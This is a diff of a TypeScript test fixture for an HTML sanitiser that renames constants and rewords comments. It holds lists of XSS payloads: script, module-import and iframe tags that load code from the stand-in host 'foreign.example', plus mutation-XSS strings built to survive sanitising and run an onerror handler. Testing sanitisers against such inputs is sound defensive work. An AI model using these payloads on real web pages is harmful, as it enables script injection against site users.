@@ -1,10 +1,10 @@
-/** What a payload that runs would call; the page counts it. */
+/** A call that payloads make if they run; the page counts it. */
 export const RUN = 'hit(1)';
-/** A host that nobody may ask. */
+/** A host that no page may send a request to. */
 export const FOREIGN = 'foreign.example';
 
 /** Markup that loads something as soon as it is in a page. */
-export const ASKING = [
+export const LOADING = [
   `<script src=https://${FOREIGN}/x.js></script>`,
   `<script type=module>import 'https://${FOREIGN}/x.js'</script>`,
   `<iframe src=https://${FOREIGN}/></iframe>`,
@@ -37,7 +37,7 @@ export const ASKING = [
   `<q cite=https://${FOREIGN}/>quoted</q><blockquote cite=//${FOREIGN}>quoted</blockquote>`,
 ];
 
-/** Markup that one parser reads in another way than the next: after a sanitiser it would come to life. */
+/** Mutation XSS: markup that parsers interpret differently, so that it becomes active after sanitising. */
 export const MUTATING = [
   `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
   `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
